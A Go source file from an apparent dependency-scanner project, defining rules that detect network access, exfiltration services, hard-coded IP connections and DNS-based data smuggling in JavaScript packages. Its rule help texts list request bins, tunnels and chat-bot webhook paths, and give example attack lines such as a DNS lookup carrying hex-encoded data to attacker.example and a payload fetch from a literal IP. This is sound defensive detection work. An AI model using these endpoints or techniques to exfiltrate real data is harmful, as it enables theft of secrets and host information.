// Package net holds rules about network behaviour.
package net

import (
	"context"
	"fmt"
	"net"
	"regexp"
	"slices"
	"strings"

	"github.com/depfence/depfence/internal/analyze"
	"github.com/depfence/depfence/internal/finding"
	"github.com/depfence/depfence/internal/jsast"
	"github.com/depfence/depfence/internal/rules/rulekit"
)

// NetworkAccess records that code talks to the network.
type NetworkAccess struct{}

// Meta implements analyze.Rule.
func (NetworkAccess) Meta() analyze.Meta {
	return analyze.Meta{
		ID: "net/network-access", Version: 3, Title: "Talks to the network",
		Help: "The code makes HTTP, socket, DNS or WebSocket calls, sends mail (nodemailer), or runs git, curl, wget, scp, rsync, sftp or ftp against a host " +
			"that is neither local nor trusted (git push to a foreign remote moves data too). This is a capability, not a threat: it " +
			"matters when the same code also reads secrets or host identity, or runs at install time.",
		Remediation:     "Expected for HTTP clients and SDKs; check the hosts for anything else.",
		Example:         `https.request({ hostname: "api.example.com", method: "POST" })`,
		DefaultSeverity: finding.SeverityLow, Signal: analyze.SigNetwork, Needs: analyze.NeedCode,
	}
}

// Check implements analyze.Rule.
func (NetworkAccess) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
	for _, f := range rulekit.Code(ctx, t) {
		for _, c := range f.Facts.Calls {
			if !rulekit.IsNetCall(c) {
				continue
			}
			dest := ""
			for _, a := range c.Args {
				if a.Known {
					if u := rulekit.URLs(a.Value); len(u) > 0 {
						dest = u[0]
						break
					}
				}
			}
			msg := fmt.Sprintf("network call %s()", c.Callee)
			if dest != "" {
				msg += " to " + dest
			}
			r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Col: c.Pos.Col, Message: msg, Evidence: rulekit.Ev(c.Snippet.String(), "", "")})
			break // one per file is enough
		}
		if slices.ContainsFunc(f.Facts.Calls, rulekit.IsNetCall) {
			continue
		}
		// a program that moves data over the network, run against a host
		// that is neither local nor trusted (git push to a foreign
		// remote, curl, scp)
		for _, c := range f.Facts.Calls {
			if !rulekit.IsSpawn(c) {
				continue
			}
			cmd := rulekit.SpawnCommand(c)
			if !transferTools[rulekit.Program(cmd)] {
				continue
			}
			u := rulekit.ExternalURL(t, cmd)
			if u == "" && rulekit.Program(cmd) == "git" {
				// git run through a helper: a foreign remote the file names
				for _, st := range f.Facts.Strings {
					if x := rulekit.ExternalURL(t, st.Value); strings.HasSuffix(x, ".git") {
						u = x
						break
					}
				}
			}
			if u != "" {
				r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Message: fmt.Sprintf("runs %s against %s", rulekit.Program(cmd), u), Evidence: rulekit.Ev(c.Snippet.String(), cmd, "")})
				break
			}
		}
	}
	return nil
}

// transferTools are programs that send or fetch data over the network.
var transferTools = map[string]bool{"git": true, "curl": true, "wget": true, "scp": true, "rsync": true, "sftp": true, "ftp": true}

// ExfilService flags exfiltration endpoints in code.
type ExfilService struct{}

// Meta implements analyze.Rule.
func (ExfilService) Meta() analyze.Meta {
	return analyze.Meta{
		ID: "net/exfil-service", Version: 9, Title: "Contacts a data-exfiltration service",
		Help: "Code contains the address of a service attackers use to receive stolen data or to prove code execution: request bins and webhooks " +
			"(webhook.site, pipedream), out-of-band testing domains (oast.*, burpcollaborator, interact.sh), tunnels (ngrok, trycloudflare), " +
			"pastebins, Discord webhooks and Telegram bots (also by their API paths, /bot<token>/sendMessage and /api/webhooks/<id>/<token>, " +
			"whatever host relays them). An IPFS gateway's bare origin (where a name resolver reads content) and a wildcard origin in an allow-list " +
			"(https://*.ngrok-free.app) are not destinations. A request's URL with run-time parts counts by its constant parts. Libraries have little reason to embed them. " +
			"The chat APIs (Telegram, Slack and Discord webhooks) count only with a credential in the file: a bot token, a webhook's id and " +
			"secret. Without one the file is a client that its user gives the token to (telegraf, a Slack notifier), reported at low severity. " +
			"A request bin, tunnel, out-of-band domain or pastebin named in a file (not a bundle) that reads files or lists directories is " +
			"critical: what it reads is what it sends. An IPFS gateway read (https://ipfs.io/ipfs/<cid>, an ENS avatar) is not counted.",
		Remediation:     "Treat as malicious unless the package is a client for that service.",
		Example:         `https.request({ hostname: "abc123.m.pipedream.net", method: "POST" })`,
		DefaultSeverity: finding.SeverityHigh, Signal: analyze.SigExfil, Needs: analyze.NeedCode,
	}
}

// Check implements analyze.Rule.
func (ExfilService) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
	for _, f := range rulekit.Code(ctx, t) {
		seen := map[string]bool{}
		// a file listing hundreds of bare domain names (public suffix
		// lists, blocklists) is data: only URLs count there
		domainList, counted := false, false
		isDomainList := func() bool {
			if !counted {
				counted = true
				domains := 0
				for _, s := range f.Facts.Strings {
					if bareDomain.MatchString(s.Value) {
						domains++
					}
				}
				domainList = domains > 200
			}
			return domainList
		}
		for _, c := range f.Facts.Calls {
			l := rulekit.Last(c.Callee)
			bot := (l == "WebhookClient" || c.Callee == "node-telegram-bot-api" || c.Callee == "telegraf" || c.Callee == "telegraf.Telegraf") && len(c.Args) > 0 && c.Args[0].Known
			if bot && !seen[l] {
				seen[l] = true
				r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Message: fmt.Sprintf("sends to a chat webhook/bot with hard-coded credentials (%s)", c.Callee),
					Evidence: rulekit.Ev(c.Snippet.String(), "", ""), Confidence: finding.ConfidenceHigh})
			}
			// a request whose URL has run-time parts: its constant parts
			// (https://relay/bot<token>/sendMessage?text=${…})
			if rulekit.IsNetCall(c) && len(c.Args) > 0 && !c.Args[0].Known && c.Args[0].Shape != "" {
				if svc := rulekit.ExfilService(c.Args[0].Shape); svc != "" && !seen[svc] && (!rulekit.ChatService(svc) || rulekit.ChatCredential(c.Args[0].Shape) || chatCredentials(f.Facts)) {
					seen[svc] = true
					r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Message: fmt.Sprintf("sends requests to %s, an exfiltration/callback service", svc),
						Evidence: rulekit.Ev(c.Snippet.String(), c.Args[0].Shape, ""), Confidence: finding.ConfidenceHigh})
				}
			}
		}
		// a host given to request options is a destination even bare
		// ({hostname: "webhook.site"})
		for _, s := range f.Facts.HostProps {
			svc := rulekit.ExfilService(s.Value)
			if svc == "" || seen[svc] {
				continue
			}
			seen[svc] = true
			r.Report(analyze.Instance{File: f.Name, Line: s.Pos.Line, Message: fmt.Sprintf("sends requests to %s, an exfiltration/callback service", svc),
				Evidence: rulekit.Ev(s.Snippet.String(), s.Value, ""), Confidence: finding.ConfidenceHigh})
		}
		for _, s := range f.Facts.Strings {
			if len(s.Value) > 2048 {
				continue
			}
			svc := rulekit.ExfilService(s.Value)
			if svc == "" || seen[svc] || strings.EqualFold(strings.TrimLeft(strings.TrimSpace(s.Value), "*."), svc) {
				continue // a bare suffix is a domain list entry, not an endpoint
			}
			if !strings.Contains(s.Value, "/") && isDomainList() {
				continue
			}
			seen[svc] = true
			if rulekit.ChatService(svc) && !chatCredentials(f.Facts) {
				// a client for the service (a bot framework, a webhook
				// poster): the token or hook comes from its user
				r.Report(analyze.Instance{File: f.Name, Line: s.Pos.Line, Severity: finding.SeverityLow, Message: fmt.Sprintf("names the %s API without a hard-coded credential (a client for it)", svc),
					Evidence: rulekit.Ev(s.Snippet.String(), "", ""), Confidence: finding.ConfidenceLow})
				continue
			}
			if prose(s.Value) {
				// a link in a block of text (a credit in ASCII art, a
				// help message) is not a destination
				r.Report(analyze.Instance{File: f.Name, Line: s.Pos.Line, Severity: finding.SeverityLow, Message: fmt.Sprintf("mentions %s in text", svc),
					Evidence: rulekit.Ev(s.Snippet.String(), "", ""), Confidence: finding.ConfidenceLow})
				continue
			}
			in := analyze.Instance{File: f.Name, Line: s.Pos.Line, Message: fmt.Sprintf("contacts %s, an exfiltration/callback service", svc),
				Evidence: rulekit.Ev(s.Snippet.String(), s.Value, ""), Confidence: finding.ConfidenceHigh}
			if !rulekit.ChatService(svc) && !f.Facts.Bundle() && readsFiles(f.Facts) {
				// a request bin in a file that reads the disk: what it
				// reads is what it sends
				in.Severity, in.Message = finding.SeverityCritical, fmt.Sprintf("contacts %s, an exfiltration/callback service, in a file that reads files", svc)
			}
			r.Report(in)
		}
	}
	return nil
}

// readsFiles reports a file that reads files or lists directories.
func readsFiles(f *jsast.Facts) bool {
	for _, c := range f.Calls {
		if rulekit.Root(c.Callee) == "fs" || rulekit.Root(c.Callee) == "fs-extra" || rulekit.Root(c.Callee) == "fs/promises" {
			switch rulekit.Last(c.Callee) {
			case "readFileSync", "readFile", "readdirSync", "readdir", "createReadStream":
				return true
			}
		}
	}
	return false
}

// chatCredentials reports a file holding a chat service's credential (a
// bot token, a webhook's secret path) among its strings.
func chatCredentials(f *jsast.Facts) bool {
	for _, s := range f.Strings {
		if rulekit.ChatCredential(s.Value) {
			return true
		}
	}
	return false
}

// RawIP flags URLs to literal public IP addresses.
type RawIP struct{}

// Meta implements analyze.Rule.
func (RawIP) Meta() analyze.Meta {
	return analyze.Meta{
		ID: "net/raw-ip", Version: 4, Title: "Connects to a hard-coded IP address",
		Help: "Code contains a URL on a literal public IP address, or, in a file that makes network calls, gives one as a request's host option or a socket's address (net.connect(4444, ip); not the public DNS resolvers' addresses). Legitimate services use names; command-and-control servers and " +
			"payload hosts often do not. Addresses no server can have are not reported: private, loopback, link-local, multicast, " +
			"reserved IPv4 blocks, and IPv6 outside the global unicast block 2000::/3 (URL parsers' tests are full of them).",
		Remediation:     "Check who owns the address and why the package needs it.",
		Example:         `http.get("http://203.0.113.7:1224/payload")`,
		DefaultSeverity: finding.SeverityMedium, Signal: analyze.SigExfil, Needs: analyze.NeedCode,
	}
}

// Check implements analyze.Rule.
func (RawIP) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
	for _, f := range rulekit.Code(ctx, t) {
		n := 0
		for _, s := range f.Facts.Strings {
			if n >= 3 || len(s.Value) > 2048 {
				continue
			}
			for _, u := range rulekit.URLs(s.Value) {
				h := rulekit.Host(u)
				if rulekit.PublicIP(h) {
					n++
					r.Report(analyze.Instance{File: f.Name, Line: s.Pos.Line, Message: "connects to a hard-coded IP address " + h, Evidence: rulekit.Ev(s.Snippet.String(), u, "")})
					break
				}
			}
		}
		if n > 0 {
			continue
		}
		// a bare address where a request or socket goes, in a file that
		// makes network calls: {host: ip}, net.connect(4444, ip)
		for _, h := range f.Facts.HostProps {
			if ip := bareIP(h.Value); ip != "" && slices.ContainsFunc(f.Facts.Calls, rulekit.IsNetCall) {
				r.Report(analyze.Instance{File: f.Name, Line: h.Pos.Line, Message: "connects to a hard-coded IP address " + ip, Evidence: rulekit.Ev(h.Snippet.String(), h.Value, "")})
				break
			}
		}
		for _, c := range f.Facts.Calls {
			switch rulekit.Root(c.Callee) {
			case "net", "tls", "dgram", "http2":
			default:
				continue
			}
			if ip := knownIP(c.Args); ip != "" && rulekit.IsNetCall(c) {
				r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Message: "connects to a hard-coded IP address " + ip, Evidence: rulekit.Ev(c.Snippet.String(), ip, "")})
				break
			}
		}
	}
	return nil
}

// bareIP returns the public IP address v is, alone or with a port
// ("198.51.100.7", "198.51.100.7:4444"); "" otherwise.
func bareIP(v string) string {
	h := v
	if host, _, err := net.SplitHostPort(v); err == nil {
		h = host
	}
	if rulekit.PublicIP(h) && !publicResolvers[h] {
		return h
	}
	return ""
}

// publicResolvers are the public DNS services' addresses, which resolvers
// and network checks name by address.
var publicResolvers = map[string]bool{"8.8.8.8": true, "8.8.4.4": true, "1.1.1.1": true, "1.0.0.1": true, "9.9.9.9": true,
	"149.112.112.112": true, "208.67.222.222": true, "208.67.220.220": true, "2001:4860:4860::8888": true, "2001:4860:4860::8844": true,
	"2606:4700:4700::1111": true, "2606:4700:4700::1001": true}

// knownIP returns the first of the first three arguments that is a bare
// public IP address; "" if none.
func knownIP(args []jsast.Arg) string {
	for _, a := range args[:min(3, len(args))] {
		if a.Known {
			if ip := bareIP(a.Value); ip != "" {
				return ip
			}
		}
	}
	return ""
}

// DNSExfil flags data smuggled out in DNS query names.
type DNSExfil struct{}

// Meta implements analyze.Rule.
func (DNSExfil) Meta() analyze.Meta {
	return analyze.Meta{
		ID: "net/dns-exfil", Version: 6, Title: "Smuggles data out in DNS lookups",
		Help: "The code encodes data (hex/base32/base64) and resolves host names built from it. DNS queries pass most firewalls, so dependency-confusion " +
			"probes use them to report the victim's host name, user and directory to an attacker's name server. The lookup, the encoding and the " +
			"host data must sit together (within 2,000 bytes of code): a proxy's lookup and a hash elsewhere in a bundle are unrelated. " +
			"A name of two run-time labels or more under a constant domain counts as the encoding (a helper of the package cut the data into labels). " +
			"A query method named for DNS (resolve4, resolveTxt…) counts on any object in a file that names the dns module, as a module " +
			"loaded by a computed require is called through whatever holds it. So does running nslookup, dig or host for such a name " +
			"next to host data.",
		Remediation:     "Remove the package; it reports your environment to a third party.",
		Example:         "dns.resolve4(`${hex}.${id}.attacker.example`)",
		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigExfil, Needs: analyze.NeedCode,
	}
}

// Check implements analyze.Rule.
func (DNSExfil) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
	for _, f := range rulekit.Code(ctx, t) {
		var dns []int
		var encode, data []jsast.Pos
		dnsLoaded := loadsDNS(f.Facts)
		for i, c := range f.Facts.Calls {
			root := rulekit.Root(c.Callee)
			if (root == "dns" || root == "dns/promises") && strings.HasPrefix(rulekit.Last(c.Callee), "resolve") || c.Callee == "dns.lookup" ||
				dnsLoaded && dnsQuery[rulekit.Last(c.Callee)] {
				if len(c.Args) > 0 && !c.Args[0].Known {
					dns = append(dns, i)
				}
			}
			if encodes(c) {
				encode = append(encode, c.Pos)
			}
			switch rulekit.Last(c.Callee) {
			case "hostname", "userInfo", "homedir", "cwd", "networkInterfaces", "readFileSync", "readFile":
				data = append(data, c.Pos)
			}
		}
		for _, e := range f.Facts.Env {
			data = append(data, e.Pos)
		}
		// The three steps sit together in exfiltration code; spread over a
		// bundle (a proxy's dns.lookup, a hash's hex digest, an env read)
		// they are unrelated.
		for _, i := range dns {
			c := f.Facts.Calls[i]
			if dataLabels.MatchString(c.Args[0].Shape) {
				// ${i}.${chunk}.${id}.d.example: labels filled at run
				// time under a constant domain are the encoding
				encode = append(encode, c.Pos)
			}
			if rulekit.Near(c.Pos, encode) && rulekit.Near(c.Pos, data) {
				r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Message: fmt.Sprintf("%s() resolves names built from encoded host data", c.Callee),
					Evidence: rulekit.Ev(c.Snippet.String(), "", ""), Confidence: finding.ConfidenceHigh})
				break
			}
		}
		// the same through a resolver the code runs: nslookup, dig or
		// host asked for such a name
		for _, c := range f.Facts.Calls {
			if !rulekit.IsSpawn(c) {
				continue
			}
			cmd := rulekit.SpawnCommand(c)
			switch rulekit.Program(cmd) {
			case "nslookup", "dig", "host":
			default:
				continue
			}
			if slices.ContainsFunc(strings.Fields(cmd), dataLabels.MatchString) && rulekit.Near(c.Pos, data) {
				r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Message: fmt.Sprintf("runs %s for names built from host data: %s", rulekit.Program(cmd), jsast.Clean(cmd, 120)),
					Evidence: rulekit.Ev(c.Snippet.String(), cmd, ""), Confidence: finding.ConfidenceHigh})
				break
			}
		}
	}
	return nil
}

// dataLabels matches a name of two run-time labels or more under a
// constant domain.
var dataLabels = regexp.MustCompile(`^(` + regexp.QuoteMeta(jsast.Hole) + `\.){2,}[a-z0-9-]+(\.[a-z0-9-]+)+$`)

// encodes reports a call that encodes to text DNS names can carry:
// toString("hex"), "base64" or "base32".
func encodes(c jsast.Call) bool {
	if rulekit.Last(c.Callee) != "toString" || len(c.Args) == 0 || !c.Args[0].Known {
		return false
	}
	switch c.Args[0].Value {
	case "hex", "base64", "base32":
		return true
	}
	return false
}

// dnsQuery are the dns module's query methods whose names say DNS
// whatever they are called on (resolve and lookup do not).
var dnsQuery = map[string]bool{"resolve4": true, "resolve6": true, "resolveTxt": true, "resolveAny": true, "resolveCname": true, "resolveMx": true, "resolveNs": true}

// loadsDNS reports a file that names the dns module: imported, or as a
// string handed to a require at run time (a module object filled in a
// loop), so its query methods are DNS lookups on any receiver.
func loadsDNS(f *jsast.Facts) bool {
	for _, im := range f.Imports {
		if im.Module == "dns" || im.Module == "node:dns" || im.Module == "dns/promises" {
			return true
		}
	}
	for _, s := range f.Strings {
		if s.Value == "dns" || s.Value == "node:dns" {
			return true
		}
	}
	return false
}

var bareDomain = regexp.MustCompile(`^[*a-z0-9.-]+\.[a-z]{2,}$`)

// prose reports multi-line text that is not a command: what a URL inside
// it points at is not where the code sends anything.
func prose(v string) bool {
	return strings.Count(v, "\n") >= 2 && rulekit.ShellDanger(v) == "" && rulekit.ShellSendsSecrets(v) == "" &&
		!strings.Contains(v, "curl") && !strings.Contains(v, "wget") && !strings.Contains(v, "fetch(") && !strings.Contains(v, "require(")
}
